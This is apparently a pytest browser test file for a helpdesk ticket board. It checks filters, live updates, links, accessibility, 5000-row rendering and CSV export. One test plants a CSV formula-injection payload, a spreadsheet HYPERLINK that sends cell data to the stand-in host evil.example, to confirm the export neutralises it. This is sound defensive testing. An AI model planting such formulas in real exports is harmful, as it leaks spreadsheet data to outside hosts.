"""The board as the desk works it, in a real headless Chromium: filters kept in the URL, rows
updated and re-sorted live, each row a link to its ticket, a CSV of exactly what is shown (with
formulas neutralised), and 5000 open tickets on one board."""
from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest

from frontdesk.ids import new_id

from ..a11y import assert_accessible
from .dashboard_helpers import SITE, Edge, login, screenshot, wait_until

EDGE_TICKETS = {"tickets": {"edge_ticket_devices": {SITE: ["desk-1"]}}}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def opened(tid, title, kind="repair", unit="1-0101", **extra):
    return {"ticket_id": tid, "kind": kind, "by": "edge:desk-1", "title": title, "unit": unit, "source": "edge",
            **extra}


def board_ids(page):
    return page.eval_on_selector_all("#board-body tr", "rows => rows.map(r => r.dataset.ticket)")


@pytest.mark.parametrize("central", [EDGE_TICKETS], indirect=True)
def test_board_filters_in_the_url_live_updates_links_and_csv(page, central, tmp_path):
    edge = Edge(central.store)
    now = datetime.now(UTC)
    late, fresh, complaint, formula = new_id(), new_id(), new_id(), new_id()
    edge.send("ticket.opened", opened(late, "卫生间漏水"), occurred_at=now - timedelta(minutes=30))
    edge.send("ticket.opened", opened(fresh, "<b>灯不亮</b>"))
    edge.send("ticket.opened", opened(complaint, "噪音投诉", kind="complaint"))
    edge.send("ticket.opened", opened(formula, FORMULA, unit="-2+3"))
    edge.send("ticket.assigned", {"ticket_id": fresh, "by": "edge:desk-1", "assignee": "tech-li"})
    user, password = central.add_user("desk-board2", "desk")
    login(page, central, user, password, "board", "?kind=repair")
    page.wait_for_selector(f'#board-body tr[data-ticket="{fresh}"]')
    assert set(board_ids(page)) == {late, fresh, formula}                     # the kind filter, from the URL
    assert page.input_value("#f-kind") == "repair"
    assert page.locator("#board-body b").count() == 0 and "<b>灯不亮</b>" in page.locator("#board").inner_text()
    # Overdue only: kept in the URL with the kind.
    page.check("#f-overdue")
    wait_until(lambda: board_ids(page) == [late], what="only the overdue ticket")
    assert "kind=repair" in page.url and "overdue=1" in page.url
    page.reload()
    page.wait_for_selector(f'#board-body tr[data-ticket="{late}"]')
    assert page.is_checked("#f-overdue") and board_ids(page) == [late]
    page.uncheck("#f-overdue")
    page.fill("#f-assignee", "tech-li")
    page.keyboard.press("Enter")
    wait_until(lambda: board_ids(page) == [fresh], what="the assignee filter")
    assert "assignee=tech-li" in page.url
    assert_accessible(page)
    page.fill("#f-assignee", "")
    page.keyboard.press("Enter")
    wait_until(lambda: len(board_ids(page)) == 3, what="the assignee filter cleared")
    page.select_option("#f-state", "received")
    wait_until(lambda: "state=received" in page.url, what="the state filter in the URL")
    screenshot(page, "board-filters", tmp_path)
    # Live: a ticket that moves on leaves a "received" board; a new repair joins it, in order.
    wait_until(lambda: central.hub.subscribers >= 1, what="the board's live stream")
    marker = page.evaluate("() => { window.fdMarker = 1; return window.fdMarker; }")
    edge.send("ticket.transitioned", {"ticket_id": fresh, "by": "edge:desk-1", "to_state": "work_order_issued"})
    wait_until(lambda: fresh not in board_ids(page), what="the moved ticket to leave the board")
    newest = new_id()
    edge.send("ticket.opened", opened(newest, "电梯异响"))
    wait_until(lambda: newest in board_ids(page), what="the new ticket to join the board")
    ids = board_ids(page)
    assert ids[0] == late and ids.index(newest) > ids.index(formula)          # re-sorted by due time
    assert page.evaluate("window.fdMarker") == marker                        # no page reload
    # CSV: exactly the rows and columns shown; the formula title and unit neutralised.
    with page.expect_download() as got:
        page.click("#board-csv")
    text = got.value.path().read_text(encoding="utf-8-sig")
    lines = list(csv.reader(io.StringIO(text)))
    headers = page.eval_on_selector_all("#board thead th", "ths => ths.map(t => t.textContent)")
    assert lines[0] == headers
    shown = page.eval_on_selector_all("#board-body tr td.number", "ts => ts.map(t => t.textContent)")
    assert [r[0] for r in lines[1:]] == shown
    bad = next(r for r in lines[1:] if FORMULA in r[3])
    assert bad[3] == "'" + FORMULA and bad[2] == "'-2+3"
    # Each row opens its ticket in one click (a real link).
    link = page.locator(f'#board-body tr[data-ticket="{late}"] td.number a')
    assert link.get_attribute("href").startswith("/dashboard/ticket?id=" + late)
    link.click()
    page.wait_for_url(f"**/dashboard/ticket?id={late}*")


@pytest.mark.parametrize("lang", ["zh-Hans", "en"])
@pytest.mark.parametrize("central", [EDGE_TICKETS], indirect=True)
def test_filtered_board_and_desk_pages_are_accessible_in_both_languages(page, central, lang):
    Edge(central.store).send("ticket.opened", opened(new_id(), "漏水"))
    user, password = central.add_user("desk-a11y", "desk")
    login(page, central, user, password, "board", f"?lang={lang}&kind=repair&overdue=1")
    page.wait_for_selector("#board-filters")
    page.wait_for_selector("#board-empty", state="attached")
    assert page.evaluate("document.documentElement.lang") == lang
    assert_accessible(page)
    for name, ready in (("desk", "#panel-counts .figures"), ("ticket-new", "#wo-form")):
        page.goto(f"{central.url}/dashboard/{name}")
        page.wait_for_selector(ready)
        assert_accessible(page)


@pytest.mark.parametrize("central", [EDGE_TICKETS], indirect=True)
def test_the_board_renders_5000_open_tickets(page, central):
    edge = Edge(central.store)
    for batch in range(10):
        edge.publish(*[edge.event("ticket.opened", opened(new_id(), f"工单 {batch}-{i}", unit=f"{batch}-{i:04d}"))
                       for i in range(500)])
    user, password = central.add_user("desk-5000", "desk")
    login(page, central, user, password, "board")
    page.wait_for_selector("#board-filters")
    wait_until(lambda: page.evaluate("window.fdBoardRows") == 5000, timeout=60, what="5000 rows on the board")
    assert page.locator("#board-body tr").count() == 5000
    assert page.locator("#board-body tr td.number a").count() == 5000
    assert page.evaluate("typeof window.fdBoardRenderMs") == "number"
    assert "5000" in page.locator("#board-count").inner_text()
